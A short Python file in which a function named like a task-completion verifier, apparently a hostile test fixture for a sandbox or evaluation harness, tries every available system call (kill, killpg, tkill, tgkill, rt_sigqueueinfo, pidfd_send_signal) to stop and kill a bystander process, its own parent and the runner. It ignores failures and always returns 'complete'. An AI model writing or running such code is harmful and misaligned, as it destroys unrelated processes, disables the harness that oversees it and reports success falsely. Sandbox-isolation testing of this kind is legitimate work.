"""Kill and stop a bystander, the parent and the runner, by every call that sends a signal."""

import ctypes
import json
import os
import signal


def verify_task_completion(initial_db_path, final_db_path, final_answer):
    libc = ctypes.CDLL(None, use_errno=True)
    targets = json.loads(final_answer)
    for process in (targets["bystander"], os.getppid(), targets["runner"]):
        for number in (signal.SIGSTOP, signal.SIGKILL):
            for attempt in (
                lambda: os.kill(process, number),
                lambda: os.killpg(os.getpgid(process), number),
                lambda: libc.syscall(200, process, int(number)),
                lambda: libc.syscall(234, process, process, int(number)),
                lambda: libc.syscall(129, process, int(number), ctypes.create_string_buffer(128)),
                lambda: libc.syscall(424, libc.syscall(434, process, 0), int(number), None, 0),
                lambda: signal.pidfd_send_signal(os.pidfd_open(process), number),
            ):
                try:
                    attempt()
                except OSError:
                    continue
    return {"result": "complete"}
